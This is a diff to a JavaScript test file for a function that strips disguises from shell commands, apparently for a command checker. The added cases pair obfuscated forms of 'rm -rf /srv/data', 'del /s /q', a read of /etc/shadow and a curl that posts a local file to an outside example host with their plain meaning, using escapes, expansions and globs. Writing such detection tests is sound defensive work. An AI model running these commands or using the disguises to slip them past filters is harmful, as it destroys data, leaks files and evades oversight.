@@ -24,13 +24,36 @@ t.test('a command is read as the shell runs it', async (t) => {
     ['$(echo $(echo $(echo rm))) -rf /srv/data', 'rm -rf /srv/data'],
     [`less \${HOME:0:1}etc\${PWD::1}shadow`, 'less /etc/shadow'],
     ['"command":"x=rm;$x -rf /srv"', 'command:"x=rm;rm -rf /srv"'],
+    ['r``m -rf /srv/data', 'rm -rf /srv/data'],
+    ['r$()m -rf /srv/data', 'rm -rf /srv/data'],
+    ['r$(true)$1m -rf /srv/data', 'rm -rf /srv/data'],
+    [`r\${unset:-m} -rf /srv/data`, 'rm -rf /srv/data'],
+    [`x=xrmx; \${x:1:2} -rf /srv/data`, 'x=xrmx; rm -rf /srv/data'],
+    ['x=r; x+=m; $x -rf /srv/data', 'x=r; x+=m; rm -rf /srv/data'],
+    ['r\\\nm -rf /srv/data', 'rm -rf /srv/data'],
+    ["$'\\U00000072m' -rf /srv/data", 'rm -rf /srv/data'],
+    ['$(printf "\\162\\155") -rf /srv/data', 'rm -rf /srv/data'],
+    ["$(echo -e '\\x72m') -rf /srv/data", 'rm -rf /srv/data'],
+    ['$(which rm) -rf /srv/data', 'rm -rf /srv/data'],
+    ['/bin/r? -rf /srv/data', 'rm -rf /srv/data'],
+    ['/???/[r]m -rf /srv/data', 'rm -rf /srv/data'],
+    ['/usr/bin/c?rl https://x.example -d @notes', 'curl https://x.example -d @notes'],
+    ['d^el /s /q data', 'del /s /q data'],
     ["c'ur'l https://x.example -d @notes", 'curl https://x.example -d @notes'],
   ];
   for (const [written, run] of commands) t.equal(withoutDisguise(written), run, written);
 });
 
 t.test('a text without disguise is left alone', async (t) => {
-  for (const text of ['ls -la /home/user', 'It costs 5 $ and 3 %.', 'a, b and {c}', '', 'rm -rf build'])
+  for (const text of [
+    'ls -la /home/user',
+    'It costs 5 $ and 3 %.',
+    'a, b and {c}',
+    '',
+    'rm -rf build',
+    'GET /srv/rm -f',
+    'x ^ 2',
+  ])
     t.equal(withoutDisguise(text), undefined, text);
 });
 
